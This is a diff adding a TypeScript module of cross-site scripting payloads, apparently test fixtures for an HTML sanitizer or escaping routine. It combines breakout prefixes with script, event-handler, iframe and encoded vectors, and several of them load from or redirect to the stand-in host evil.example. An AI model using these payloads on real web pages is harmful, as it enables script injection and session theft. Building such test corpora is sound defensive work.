@@ -1,0 +1,81 @@
+/** Ways out of where a text may stand: content, an attribute, an element that is read differently, a comment, a script. */
+const breakouts = [
+  '',
+  '">',
+  "'>",
+  '"/>',
+  '</p>',
+  '</dd></dl>',
+  '</title>',
+  '</style>',
+  '</script>',
+  '</template>',
+  '</noscript>',
+  '-->',
+  ']]>',
+  '\u0000">',
+];
+
+/** What would call `hit()`, or reach evil.example, once it is out. */
+const vectors = [
+  '<script>hit()</script>',
+  '<ScRiPt/x>hit()</sCrIpT>',
+  '<script src=//evil.example></script>',
+  '<img src=x onerror=hit()>',
+  '<img/src/onerror=hit()>',
+  '<image src=x onerror=hit()>',
+  '<svg onload=hit()>',
+  '<svg/onload=hit()//',
+  '<svg><script>hit()</script></svg>',
+  '<svg><animate onbegin=hit() attributeName=x>',
+  '<math><mtext><img src=x onerror=hit()>',
+  '<body onload=hit()>',
+  '<details open ontoggle=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<video><source onerror=hit()></video>',
+  '<audio src=x onerror=hit()>',
+  '<iframe srcdoc="<script>parent.hit()</script>">',
+  '<iframe src=javascript:parent.hit()>',
+  '<object data=//evil.example>',
+  '<embed src=//evil.example>',
+  '<meta http-equiv=refresh content="0;//evil.example">',
+  '<base href=//evil.example>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<style>@import"//evil.example"</style>',
+  '<form action=//evil.example><button autofocus>',
+  '<a href=javascript:hit()>x</a>',
+];
+
+/** What needs no markup, or disguises it. */
+const others = [
+  'javascript:hit()',
+  '" onmouseover=hit() x="',
+  "' onfocus=hit() autofocus x='",
+  '` onfocus=hit() autofocus x=`',
+  `${'$'}{hit()}`,
+  '`;hit();`',
+  "';hit();//",
+  '";hit();//',
+  '\\";hit();//',
+  '\u2028hit()\u2029',
+  '{{constructor.constructor("hit()")()}}',
+  'expression(hit())',
+  'url(javascript:hit())',
+  '&lt;script&gt;hit()&lt;/script&gt;',
+  '&#60;img src=x onerror=hit()&#62;',
+  '%3Cscript%3Ehit()%3C/script%3E',
+  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
+  '＜script＞hit()＜/script＞',
+  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
+  '<<script>hit()//<</script>',
+  '<scr<script>ipt>hit()</scr</script>ipt>',
+  '<!--><img src=x onerror=hit()>-->',
+  '<![CDATA[<img src=x onerror=hit()>]]>',
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+];
+
+/** Texts that would run a script, or leave the page, where a page takes text for markup. */
+export const hostileTexts: readonly string[] = [
+  ...breakouts.flatMap((breakout) => vectors.map((vector) => breakout + vector)),
+  ...others,
+];
